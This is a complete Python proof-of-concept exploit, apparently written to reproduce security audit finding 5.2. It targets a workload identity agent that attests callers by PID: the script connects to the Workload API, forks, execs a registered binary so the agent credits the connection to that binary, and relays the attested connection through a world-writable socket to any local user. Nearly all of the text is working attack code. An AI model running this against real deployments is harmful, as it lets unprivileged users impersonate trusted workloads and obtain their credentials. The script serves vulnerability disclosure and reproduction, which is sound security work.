"""Finding 5.2: connect to the Workload API, fork a relay child that keeps
the connection, then exec another binary. The agent sees the connecting PID
running that binary; the relay serves the connection to whoever connects to
RELAY_SOCKET.

Usage: exec_relay.py API_SOCKET RELAY_SOCKET BINARY [ARGS...]
Standard library only: it runs as an unprivileged user."""

import os
import socket
import sys
import threading


def pump(src, dst):
    while True:
        data = src.recv(65536)
        if not data:
            try:
                dst.shutdown(socket.SHUT_WR)
            except OSError:
                pass
            return
        dst.sendall(data)


def main():
    api, relay, binary = sys.argv[1], sys.argv[2], sys.argv[3:]
    upstream = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    upstream.connect(api)
    # Wait (without consuming it) for the server's HTTP/2 SETTINGS: the agent
    # sends them only after it accepted the connection, so the exec below
    # comes after the accept. An exec between connect() and accept() is a
    # different, documented limit; this script reproduces the finding.
    upstream.settimeout(10)
    upstream.recv(1, socket.MSG_PEEK)
    upstream.settimeout(None)
    if os.fork() != 0:
        # The connecting process becomes the registered binary.
        os.execv(binary[0], binary)
    with open(relay + ".pid", "w") as f:
        f.write(str(os.getpid()))
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(relay)
    os.chmod(relay, 0o666)
    listener.listen(1)
    client, _ = listener.accept()
    threading.Thread(target=pump, args=(client, upstream), daemon=True).start()
    pump(upstream, client)


main()
